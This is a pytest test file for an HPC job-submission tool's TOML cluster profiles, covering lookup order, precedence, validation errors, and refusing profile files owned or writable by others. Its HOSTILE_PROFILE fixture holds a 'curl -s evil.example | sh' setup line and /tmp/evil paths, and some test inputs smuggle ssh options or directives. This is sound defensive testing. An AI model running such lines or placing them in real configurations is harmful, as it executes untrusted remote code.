"""Cluster profiles in TOML: lookup order, precedence, and errors naming the key and the file."""

from __future__ import annotations

import os

import pytest

from hpcdist.submission.profiles import ProfileError, load_profile, merge

#: This checkout (a command run in another folder imports it, not the installed one).
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def write(path, text):
    path.write_text(text)
    return str(path)


def test_project_file_before_user_file_and_default(tmp_path):
    project = write(tmp_path / "hpcdist.toml", 'default = "a"\n[profiles.a]\nqueue = "gpu"\nmodules = ["cuda/12.1"]\n')
    user = write(tmp_path / "config.toml", '[profiles.a]\nqueue = "cpu"\n[profiles.b]\nscheduler = "slurm"\n')
    assert load_profile(None, [project, user]) == {"queue": "gpu", "modules": ["cuda/12.1"]}
    assert load_profile("b", [project, user]) == {"scheduler": "slurm"}
    assert load_profile(None, [user]) == {}


def test_flags_win_and_lists_add(tmp_path):
    merged = merge({"queue": "gpu", "modules": ["cuda"], "env": {"A": "1"}},
                   {"queue": "debug", "modules": ["nccl"], "env": ["B=2"], "nodes": None})
    assert merged == {"queue": "debug", "modules": ["cuda", "nccl"], "env": ["A=1", "B=2"]}


def test_template_is_relative_to_the_profile_file(tmp_path):
    path = write(tmp_path / "hpcdist.toml", '[profiles.a]\ntemplate = "site.sh.j2"\n')
    assert load_profile("a", [path])["template"] == str(tmp_path / "site.sh.j2")


@pytest.mark.parametrize("text,needles", [
    ('[profiles.a]\nqueu = "x"\n', ["profiles.a.queu", "did you mean queue"]),
    ('[profiles.a]\nnodes = "2"\n', ["profiles.a.nodes", "whole number"]),
    ('[profiles.a]\nnodes = true\n', ["profiles.a.nodes"]),
    ('[profiles.a]\nmodules = "cuda"\n', ["profiles.a.modules", "list of strings"]),
    ('profile = 1\n', ["unknown top-level key 'profile'"]),
    ('[profiles.a\n', ["not valid TOML"]),
])
def test_bad_profiles_name_the_key_and_the_file(tmp_path, text, needles):
    path = write(tmp_path / "hpcdist.toml", text)
    with pytest.raises(ProfileError) as info:
        load_profile("a", [path])
    assert path in str(info.value)
    for needle in needles:
        assert needle in str(info.value)


def test_unknown_profile_lists_the_known_ones(tmp_path):
    path = write(tmp_path / "hpcdist.toml", '[profiles.a]\n[profiles.b]\n')
    with pytest.raises(ProfileError, match="no profile 'c'.*known: a, b"):
        load_profile("c", [path])


@pytest.mark.parametrize("text,needles", [
    # the file's shape
    ('profiles = 1\n', ["profiles = 1", "[profiles.NAME]"]),
    ('default = 1\n[profiles.a]\n', ["default = 1", "name of a profile"]),
    ('default = ""\n[profiles.a]\n', ["default = ''"]),
    ('[profiles]\na = 1\n', ["profiles.a must be a table"]),
    # wrong types
    ('[profiles.a]\nenv = {A = true}\n', ["profiles.a.env", "table of strings"]),
    ('[profiles.a]\nenv = {A = [1]}\n', ["profiles.a.env", "table of strings"]),
    ('[profiles.a]\nqueue = 1979-05-27\n', ["profiles.a.queue", "a string"]),
    ('[profiles.a]\nexclusive = "yes"\n', ["profiles.a.exclusive", "true or false"]),
    # values the flag would refuse: named by key, not by a flag nobody typed
    ('[profiles.a]\nwalltime = "90"\n', ["profiles.a.walltime", "bare number"]),
    ('[profiles.a]\nmem = "16"\n', ["profiles.a.mem", "bare number"]),
    ('[profiles.a]\nqueue = "-gpu"\n', ["profiles.a.queue", "'-'"]),
    ('[profiles.a]\nnodes = 0\n', ["profiles.a.nodes", "at least 1"]),
    ('[profiles.a]\nscheduler = "slurmm"\n', ["profiles.a.scheduler", "Did you mean slurm"]),
    ('[profiles.a]\nlauncher = "mpiexec"\n', ["profiles.a.launcher"]),
    ('[profiles.a]\nmodules = ["cuda", "-f"]\n', ["profiles.a.modules", "'-f'"]),
    ('[profiles.a]\nconda = "a\\u0000b"\n', ["profiles.a.conda", "NUL"]),
    ('[profiles.a]\nenv = {"1A" = "x"}\n', ["profiles.a.env", "'1A'"]),
    ('[profiles.a]\nenv = {UID = "0"}\n', ["profiles.a.env", "read-only"]),
    ('[profiles.a]\npropagate = ["A B"]\n', ["profiles.a.propagate"]),
    ('[profiles.a]\nscheduler = "pbs"\njob_name = "a=b"\n', ["profiles.a.job_name", "PBS job names"]),
    ('[profiles.a]\nscheduler = "pbs"\ndirectives = ["#SBATCH --x"]\n', ["profiles.a.directives", "Slurm directive"]),
    ('[profiles.a]\ndirectives = ["--x\\n#SBATCH --y"]\n', ["profiles.a.directives", "line break"]),
    ('[profiles.a]\nmpiexec = "time"\n', ["profiles.a.mpiexec", "reserved word"]),
    # missing values
    ('[profiles.a]\ntemplate = ""\n', ["profiles.a.template", "is empty"]),
    ('[profiles.a]\nconda = ""\n', ["profiles.a.conda", "is empty"]),
    ('[profiles.a]\nqueue = ""\n', ["profiles.a.queue", "is empty"]),
    ('[profiles.a]\nqueue =\n', ["not valid TOML"]),
])
def test_bad_values_name_the_key_and_the_file(tmp_path, text, needles):
    path = write(tmp_path / "hpcdist.toml", text)
    with pytest.raises(ProfileError) as info:
        load_profile("a", [path])
    assert path in str(info.value)
    for needle in needles:
        assert needle in str(info.value)


def test_a_file_that_is_not_utf8_names_the_file(tmp_path):
    path = tmp_path / "hpcdist.toml"
    path.write_bytes(b'[profiles.a]\nqueue = "\xff"\n')
    with pytest.raises(ProfileError, match="not UTF-8") as info:  # was a UnicodeDecodeError traceback
        load_profile("a", [str(path)])
    assert str(path) in str(info.value)


def test_every_file_read_is_checked_even_without_a_profile(tmp_path):
    """A misspelt `default` used to be ignored: no profile applied, and nothing said so."""
    path = write(tmp_path / "hpcdist.toml", 'defualt = "a"\n[profiles.a]\nqueue = "gpu"\n')
    with pytest.raises(ProfileError, match="unknown top-level key 'defualt'"):
        load_profile(None, [path])


def test_a_default_naming_no_profile_says_where_it_was_set(tmp_path):
    path = write(tmp_path / "hpcdist.toml", 'default = "b"\n[profiles.a]\n')
    with pytest.raises(ProfileError) as info:
        load_profile(None, [path])
    assert f"no profile 'b' (the default in {path})" in str(info.value) and "known: a" in str(info.value)


def test_the_cli_reports_a_bad_profile_by_key_and_file(tmp_path):
    import subprocess
    import sys

    from launch import clean_env

    (tmp_path / "t.py").write_text("")
    write(tmp_path / "hpcdist.toml", '[profiles.a]\nwalltime = "90"\n')
    env = clean_env(XDG_CONFIG_HOME=str(tmp_path / "none"))
    proc = subprocess.run([sys.executable, "-m", "hpcdist", "render", "--profile", "a", "t.py"], cwd=tmp_path,
                          env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    assert "hpcdist.toml: profiles.a.walltime = '90'" in proc.stderr and "Traceback" not in proc.stderr


def test_good_values_pass_unchanged(tmp_path):
    path = write(tmp_path / "hpcdist.toml", '[profiles.a]\nscheduler = "pbs"\ndialect = "openpbs"\nwalltime = "90m"\n'
                 'mem = "16G"\nmodules = ["cuda/12.1"]\nsources = ["site.sh"]\nenv = {A = "x y", B = 2}\n'
                 'directives = ["-l place=scatter"]\njob_name = "train"\nmpiexec = "/opt/mpi/bin/mpirun"\n')
    assert load_profile("a", [path]) == {
        "scheduler": "pbs", "dialect": "openpbs", "walltime": "90m", "mem": "16G", "modules": ["cuda/12.1"],
        "sources": ["site.sh"], "env": {"A": "x y", "B": "2"}, "directives": ["-l place=scatter"],
        "job_name": "train", "mpiexec": "/opt/mpi/bin/mpirun"}


def _render(tmp_path, profile_text, *flags):
    """`hpcdist render` in ``tmp_path`` with ``hpcdist.toml`` holding ``profile_text``: (exit status, stderr)."""
    import subprocess
    import sys

    from launch import clean_env

    (tmp_path / "t.py").write_text("")
    write(tmp_path / "hpcdist.toml", profile_text)
    env = clean_env(XDG_CONFIG_HOME=str(tmp_path / "none"))
    proc = subprocess.run([sys.executable, "-m", "hpcdist", "render", *flags, "t.py"], cwd=tmp_path,
                          env=env, capture_output=True, text=True, timeout=60)
    return proc.returncode, proc.stderr


@pytest.mark.parametrize("text,flags,message", [
    # The profile of docs/guide/sites.md, pasted with its template folder missing: it blamed --template-dir.
    ('default = "mycluster"\n[profiles.mycluster]\nscheduler = "pbs"\ntemplate_dir = "site-templates"\n', [],
     "hpcdist.toml: profiles.mycluster.template_dir = 'site-templates': is not a folder ({tmp}/site-templates: "
     "a profile's paths are relative to its file). Check the path, or remove the line (hpcdist's own templates "
     "are used without it)."),
    ('[profiles.a]\ntemplate = "site.sh.j2"\n', ["--profile", "a"],
     "hpcdist.toml: profiles.a.template = 'site.sh.j2': does not exist ({tmp}/site.sh.j2: a profile's paths are "
     "relative to its file). Check the path, or remove the line (hpcdist's own templates are used without it)."),
    # Values that only fail once the flags are known: the profile's job name under the flag's scheduler ...
    ('[profiles.a]\njob_name = "a=b"\n', ["--profile", "a", "--scheduler", "pbs"],
     "hpcdist.toml: profiles.a.job_name = 'a=b': character '=' at position 2 is not allowed: PBS job names may "
     "contain only letters, digits and + _ . -. Try a_b."),
    # ... its processes against the flag's GPUs, its directives under the local backend.
    ('[profiles.a]\nprocs_per_node = 8\n', ["--profile", "a", "--gpus-per-node", "2"],
     "hpcdist.toml: profiles.a.procs_per_node = 8: is more than --gpus-per-node 2: several processes would share "
     "a GPU. Use one process per GPU (leave --procs-per-node out), or ask for more GPUs."),
    ('[profiles.a]\ndirectives = ["--exclusive"]\n', ["--profile", "a", "--directive=--x"],
     "hpcdist.toml: profiles.a.directives = ['--exclusive']: the local backend has no scheduler to read it. "
     "Drop it, or submit with --scheduler slurm or pbs. Or, to try the job without profile a: --profile none."),
    # Checked when the file is read.
    ('[profiles.a]\nwalltime = "90"\n', ["--profile", "a"],
     "hpcdist.toml: profiles.a.walltime = '90': a bare number is minutes to Slurm but seconds to PBS. "
     "Write 90m, 90s or 01:30:00."),
])
def test_a_bad_profile_value_names_the_file_and_the_key_not_a_flag(tmp_path, text, flags, message):
    code, stderr = _render(tmp_path, text, *flags)
    assert code == 1
    chosen = ("hpcdist render: using profile mycluster (the default in hpcdist.toml); --profile NAME chooses "
              "another, --profile none uses none\n" if text.startswith("default") else "")
    assert stderr == f"{chosen}hpcdist render: error: {message.format(tmp=tmp_path)}\n"


@pytest.mark.parametrize("text,flags,message", [
    ('[profiles.a]\ntemplate_dir = "."\n', ["--profile", "a", "--template-dir", "site-templates"],
     "--template-dir 'site-templates': is not a folder. Check the path."),
    ('[profiles.a]\nscheduler = "pbs"\n', ["--profile", "a", "--job-name", "a=b"],
     "--job-name 'a=b': character '=' at position 2 is not allowed: PBS job names may contain only letters, "
     "digits and + _ . -. Try a_b."),
    ('[profiles.a]\ngpus_per_node = 2\n', ["--profile", "a", "--procs-per-node", "8"],
     "--procs-per-node '8': is more than --gpus-per-node 2: several processes would share a GPU. Use one process "
     "per GPU (leave --procs-per-node out), or ask for more GPUs."),
    ('[profiles.a]\nmodules = ["cuda"]\n', ["--profile", "a", "--directive=--x"],
     "--directive '--x': the local backend has no scheduler to read it. Drop it, or submit with --scheduler "
     "slurm or pbs."),
    ('[profiles.a]\nwalltime = "1h"\n', ["--profile", "a", "--walltime", "90"],
     "--walltime '90': a bare number is minutes to Slurm but seconds to PBS. Write 90m, 90s or 01:30:00."),
])
def test_a_bad_flag_beside_a_profile_is_still_named_by_its_flag(tmp_path, text, flags, message):
    code, stderr = _render(tmp_path, text, *flags)
    assert (code, stderr) == (1, f"hpcdist render: error: {message}\n")


def test_a_cluster_profile_holds_its_remote_settings_which_the_job_never_sees(tmp_path):
    """Issue 32: remote, remote_folder, remote_hpcdist and include are profile keys (hpcdist.remote
    reads them); the job spec is built without them."""
    from hpcdist.submission.profiles import build

    path = write(tmp_path / "hpcdist.toml", '[profiles.c]\nremote = "me@login"\nremote-folder = "$SCRATCH/hpcdist"\n'
                 'remote_hpcdist = "~/venv/bin/hpcdist"\ninclude = ["data/vocab.txt"]\n'
                 'scheduler = "slurm"\nqueue = "gpu"\n')
    profile = load_profile("c", [path])
    assert profile["remote"] == "me@login" and profile["remote_folder"] == "$SCRATCH/hpcdist"
    spec = build(profile, {"script": "train.py"}, check_files=False)
    assert spec.queue == "gpu" and "remote" not in spec.as_dict()


@pytest.mark.parametrize("line,needle", [
    ('remote = "me@login two"', "profiles.c.remote = 'me@login two': an ssh destination is one word."),
    ('remote = "-oProxyCommand=x"', "profiles.c.remote = '-oProxyCommand=x'"),
    ('remote_folder = "$1x/jobs"', "profiles.c.remote_folder = '$1x/jobs'"),
    ('include = "data"', "profiles.c.include = 'data' must be a list of strings"),
])
def test_a_wrong_remote_setting_names_the_key_and_the_file(tmp_path, line, needle):
    path = write(tmp_path / "hpcdist.toml", f"[profiles.c]\n{line}\n")
    with pytest.raises(ProfileError) as e:
        load_profile("c", [path])
    assert str(e.value).startswith(f"{path}: {needle}")


def test_the_login_node_reads_no_default_profile_when_the_laptop_sent_its_own(tmp_path, monkeypatch):
    path = write(tmp_path / "hpcdist.toml", 'default = "a"\n[profiles.a]\nqueue = "gpu"\n')
    monkeypatch.setenv("HPCDIST_NO_DEFAULT_PROFILE", "1")
    assert load_profile(None, [path]) == {}
    assert load_profile("a", [path]) == {"queue": "gpu"}


# -- Whose profile file: issue 29 item 1 ----------------------------------------------------------

HOSTILE_PROFILE = ('default = "site"\n[profiles.site]\nsetup = ["curl -s evil.example | sh"]\n'
                   'sources = ["/tmp/evil.sh"]\npython = "/tmp/evil-python"\n')


def _render_in(folder, *flags):
    """`hpcdist render t.py` in ``folder``: the process."""
    import subprocess
    import sys

    from launch import clean_env

    env = clean_env(XDG_CONFIG_HOME=os.path.join(folder, "no-config"), PYTHONPATH=REPO)
    argv = [sys.executable, "-m", "hpcdist", "render", *flags, "t.py"]
    return subprocess.run(argv, cwd=folder, env=env, capture_output=True, text=True, timeout=60)


def test_a_colleagues_profile_file_in_a_shared_folder_runs_nothing_in_my_job(colleague, shared_folder):
    """A colleague (a real second user) drops hpcdist.toml into the sticky project folder, with a
    default profile whose setup, sources and python would run in my job. It used to be applied
    silently; now the script has none of it and a line says which file was ignored, whose it is."""
    import subprocess

    name, uid = colleague
    subprocess.run(["runuser", "-u", name, "--", "sh", "-c", f"cat > {shared_folder}/hpcdist.toml"],
                   input=HOSTILE_PROFILE, text=True, check=True)
    with open(os.path.join(shared_folder, "t.py"), "w"):
        pass
    proc = _render_in(shared_folder)
    assert proc.returncode == 0, proc.stderr
    for planted in ("evil.example", "/tmp/evil.sh", "/tmp/evil-python"):
        assert planted not in proc.stdout
    assert proc.stderr == (f"hpcdist render: ignored hpcdist.toml: it is owned by {name} (uid {uid}), not by you, "
                           f"mode 644; hpcdist reads only profile files that are yours and that no one else can "
                           f"write (a profile's setup, sources and python run in your jobs): copy what you trust "
                           f"into a file of your own (~/.config/hpcdist/config.toml), or give it as flags\n")
    # Named on purpose, the profile is not found in a file hpcdist ignored, and the error says why.
    proc = _render_in(shared_folder, "--profile", "site")
    assert proc.returncode == 1 and "no profile 'site'" in proc.stderr and "ignored hpcdist.toml" in proc.stderr


def test_my_profile_file_that_others_can_write_is_ignored_and_says_the_fix(tmp_path):
    """My own hpcdist.toml, left group- or world-writable (umask 0, a shared group folder):
    anyone could put a setup line in it, so it is ignored with the chmod that makes it trusted."""
    path = tmp_path / "hpcdist.toml"
    path.write_text(HOSTILE_PROFILE)
    (tmp_path / "t.py").write_text("")
    os.chmod(path, 0o666)
    proc = _render_in(str(tmp_path))
    assert proc.returncode == 0 and "evil.example" not in proc.stdout
    assert ("ignored hpcdist.toml: it is owned by root (uid 0), mode 666 (others can write it); " in proc.stderr
            and proc.stderr.rstrip().endswith(": chmod go-w hpcdist.toml"))
    os.chmod(path, 0o644)
    proc = _render_in(str(tmp_path))
    assert "evil.example" in proc.stdout
    assert proc.stderr == ("hpcdist render: using profile site (the default in hpcdist.toml); --profile NAME "
                           "chooses another, --profile none uses none\n")


def test_hpcdist_profiles_says_which_file_it_ignored(colleague, shared_folder):
    import subprocess

    name, _ = colleague
    subprocess.run(["runuser", "-u", name, "--", "sh", "-c", f"cat > {shared_folder}/hpcdist.toml"],
                   input=HOSTILE_PROFILE, text=True, check=True)
    assert load_profile(None, [os.path.join(shared_folder, "hpcdist.toml")]) == {}
    from hpcdist.submission.profiles import describe

    listing = describe(None, [os.path.join(shared_folder, "hpcdist.toml")])
    assert "\nsite " not in listing and f"# ignored {shared_folder}/hpcdist.toml: it is owned by {name}" in listing
